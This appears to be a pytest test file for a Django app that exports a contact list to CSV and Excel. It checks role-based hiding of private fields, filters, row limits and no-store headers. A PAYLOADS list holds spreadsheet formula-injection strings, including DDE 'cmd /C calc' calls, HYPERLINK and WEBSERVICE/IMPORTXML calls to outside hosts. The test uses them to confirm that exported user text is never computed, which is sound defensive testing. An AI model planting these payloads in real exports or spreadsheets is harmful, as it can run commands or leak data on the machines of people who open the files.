"""The list as a file: what the page shows and no more, and nothing that a spreadsheet computes."""

import csv
import io
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
import time_machine
from django.test import Client

from incidents import export
from incidents.views import files
from tests.builders import NOW, log_contact, make_behaviour, make_norm, make_person, make_team
from tests.incidents.site import LIST, SECRETS, page, secret_contact, signed_in

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1", "=1+1\t", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","klik")', "==1", "=",
    "+1+1", "+31", "++", "+cmd|' /C calc'!A0", "-1+1", "-", "--", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "@", "@@", "\t=1+1", "\t", "\tklant", "\r=1+1", "\rklant", "\n=1+1", " =1+1",
    "  +1", "\xa0=1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=2+2', "=1;=2", '"=1', "'=1",
    "=1\n=2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"//x\";A1);\"//a\")",
    "=WEBSERVICE(\"//x\")", "\x0b=1+1", "\x01=1+1", "\ufeff=1", "=é", "klant;=1", "klant\t=1",
]  # fmt: skip
COMPUTED = tuple("=+-@＝＋－＠\t\r\n")


@pytest.fixture(autouse=True)
def _monday_morning():
    with time_machine.travel(NOW + timedelta(hours=3), tick=False):
        yield


def as_csv(client: Client, query: str = "") -> list[list[str]]:
    response = client.get(f"{LIST}?_export=csv{query}")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def as_xlsx(client: Client, query: str = "") -> list[list[Any]]:
    response = client.get(f"{LIST}?_export=xlsx{query}")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def named(lines: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def text_in(cell: Any) -> str:
    return str(getattr(cell, "value", cell) or "")


class TestWhoSeesWhat:
    def test_of_ones_own_contact_everything_in_local_time(self, client, team):
        me = signed_in(client, make_person(team, name="Eva"))
        answer = make_behaviour()
        make_norm(answer)
        fields = {"subject": "paspoort", "private_note": "druk", "case_number": "2026-1"}
        log_contact(team, {answer: 33}, employee=me, logged_by=me, **fields)
        assert named(as_csv(client)) == [
            {
                "Date": "2026-11-16", "Part of the day": "morning", "Week": "2026-W47",
                "Team": "Balie", "Channel": "phone", "Subject": "paspoort",
                "Customer": "external customer", "Origin": "logged by oneself", "Answered": "yes",
                "Score (of 100)": "67.5", "Standing": "not fully in order", "Time": "11:00",
                "About": "Eva", "Noted by": "Eva", "Note": "druk", "Case number": "2026-1",
            }
        ]  # fmt: skip

    @pytest.mark.parametrize("read", [as_csv, as_xlsx])
    def test_a_lead_gets_rows_without_names_time_note_and_case_number(self, client, team, read):
        secret_contact(team, case_number="2026-004512")
        signed_in(client, make_person(team, "team_lead"))
        lines = [
            [str(getattr(cell, "value", cell) or "") for cell in line] for line in read(client)
        ]
        (row,) = named(lines)
        assert (row["Subject"], row["Part of the day"]) == ("paspoort", "morning")
        closed = ("Time", "About", "Noted by", "Note", "Case number")
        assert [row[name] for name in closed] == [""] * 5
        shown = str(lines)
        assert [secret for secret in (*SECRETS, "2026-004512") if secret in shown] == []

    @pytest.mark.parametrize("kind", ["manager", "works_council", "administrator"])
    def test_who_sees_no_rows_gets_none(self, client, team, kind):
        secret_contact(team)
        signed_in(client, make_person(team, kind))
        assert len(as_csv(client)) == 1


class TestTheSameList:
    def test_filters_and_order_are_those_of_the_page_and_pages_are_not(self, client, team):
        me = signed_in(client, make_person(team))
        for number in range(60):
            log_contact(team, employee=me, channel="desk", subject=f"balie {number}")
        log_contact(team, employee=me, channel="phone")
        found = named(as_csv(client, "&channel=desk&page=2&sort=moment"))
        assert [row["Subject"] for row in found] == [f"balie {number}" for number in range(60)]

    def test_the_page_links_to_both_files_with_its_filters(self, client, team):
        me = signed_in(client, make_person(team))
        log_contact(team, employee=me)
        shown = page(client, f"{LIST}?channel=phone&page=1")
        assert 'href="?channel=phone&amp;_export=csv"' in shown
        assert 'href="?channel=phone&amp;_export=xlsx"' in shown

    @pytest.mark.parametrize("asked", ["pdf", "json", "", "CSV"])
    def test_another_kind_of_file_is_the_page(self, client, team, asked):
        signed_in(client, make_person(team))
        assert "<h1" in page(client, f"{LIST}?_export={asked}")

    def test_a_filter_that_cannot_be_read_is_the_page_with_its_errors(self, client, team):
        signed_in(client, make_person(team))
        assert "This is not a week" in page(client, f"{LIST}?_export=csv&week=nu")

    def test_too_many_rows_lead_back_to_the_list_with_a_word(self, client, team, monkeypatch):
        monkeypatch.setattr(files, "MOST_ROWS", 1)
        me = signed_in(client, make_person(team))
        log_contact(team, employee=me)
        assert len(as_csv(client)) == 2
        log_contact(team, employee=me)
        response = client.get(f"{LIST}?_export=csv&channel=phone")
        assert response.url == f"{LIST}?channel=phone"
        assert "more than 1 contacts" in page(client, response.url)

    @pytest.mark.parametrize("count", [1, 3])
    def test_five_queries_however_many_rows(self, client, team, count, django_assert_num_queries):
        me = signed_in(client, make_person(team))
        for _ in range(count):
            log_contact(make_team(), employee=me, logged_by=make_person(team))
        with django_assert_num_queries(5):
            assert len(as_csv(client)) == count + 1

    def test_a_file_is_saved_and_never_kept(self, client, team):
        signed_in(client, make_person(team))
        response = client.get(f"{LIST}?_export=csv")
        assert response["Content-Disposition"] == 'attachment; filename="contacts-2026-11-16.csv"'
        assert response["Cache-Control"] == "private, no-store"

    def test_a_dutch_reader_gets_dutch_words_and_a_decimal_comma(self, client, team):
        me = signed_in(client, make_person(team), "nl")
        answer = make_behaviour()
        make_norm(answer)
        log_contact(team, {answer: 33}, employee=me)
        (row,) = named(as_csv(client))
        assert (row["Kanaal"], row["Score (van 100)"]) == ("telefoon", "67,5")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_user_is_computed_by_a_spreadsheet(client, payload):
    team = make_team(payload[:50])
    me = signed_in(client, make_person(team, name=payload))
    texts = {"subject": payload, "private_note": payload, "case_number": payload[:40]}
    log_contact(team, employee=me, logged_by=me, **texts)
    _headings, line = as_csv(client)
    assert len(line) == 16
    assert [cell for cell in line if cell.startswith(COMPUTED) or starts_late(cell)] == []
    headings, cells = as_xlsx(client)
    assert {cell.data_type for cell in (*headings, *cells) if cell.value} == {"s"}
    assert [cell.value for cell in cells if str(cell.value or "").startswith(COMPUTED)] == []
    written = payload.replace("\x0b", "").replace("\x01", "").lstrip("'\t\r\n ")
    assert written.split("\n")[0] in line[5]


def starts_late(cell: str) -> bool:
    return cell.lstrip().startswith(COMPUTED)


def test_a_score_is_a_number_in_a_workbook(client, team):
    me = signed_in(client, make_person(team))
    answer = make_behaviour()
    make_norm(answer)
    log_contact(team, {answer: 33}, employee=me)
    _headings, cells = as_xlsx(client)
    assert (cells[9].value, cells[9].data_type) == (67.5, "n")


def test_a_text_that_means_no_sum_is_left_as_it_is():
    for text in ("paspoort", "2026-004512", "a=b", "'t loket", "'=1", "", "06:30"):
        assert export.safe(text) == text
